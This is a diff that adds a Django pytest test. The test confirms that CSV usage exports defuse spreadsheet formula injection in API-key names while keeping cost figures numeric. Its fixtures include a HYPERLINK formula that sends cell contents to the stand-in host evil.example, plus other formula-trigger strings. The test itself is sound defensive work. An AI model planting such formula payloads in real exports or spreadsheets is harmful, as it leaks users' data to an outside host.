@@ -224,3 +224,27 @@ def test_query_count_is_fixed(world, admin_client, django_assert_max_num_queries
     count = len(captured)
     with django_assert_max_num_queries(count):
         admin_client.get(url + "&metric=cost_micros")  # same queries, however much data
+
+
+def test_csv_exports_neutralise_formulas_but_keep_numbers(world, admin_client):
+    g = world["group"]
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1 555 0100", "-2+3", "@SUM(A1)"]
+    keys = [api_key_create(group=g, name=name).key for name in names]
+    tabbed = api_key_create(group=g, name="Tab key").key
+    type(tabbed).objects.filter(pk=tabbed.pk).update(name="\tcmd")  # names typed elsewhere
+    at = timezone.now().replace(minute=10, second=0, microsecond=0) - timedelta(hours=3)
+    for key in [*keys, tabbed]:
+        event(g, key, world["sonar"], at, cost=1_500_000)
+    event(g, world["k1"], world["sonar"], at, cost=2_000_000)
+    rollup_range(at - timedelta(hours=1), at + timedelta(hours=2))
+    set_rolled_through(timezone.now())
+
+    for url, name_col, cost_col in (("export.csv", 1, 10), ("events.csv", 2, 11)):
+        body = b"".join(
+            admin_client.get(f"/g/{g.public_id}/usage/{url}?range=24h").streaming_content
+        ).decode()
+        rows = list(csv.reader(io.StringIO(body)))[1:]
+        by_name = {row[name_col]: row for row in rows}
+        assert set(by_name) == {"'" + n for n in names} | {"'\tcmd", "Server"}, url
+        assert by_name["Server"][cost_col] == "2.000000", url
+        assert {row[cost_col] for row in rows if row[name_col] != "Server"} == {"1.500000"}, url
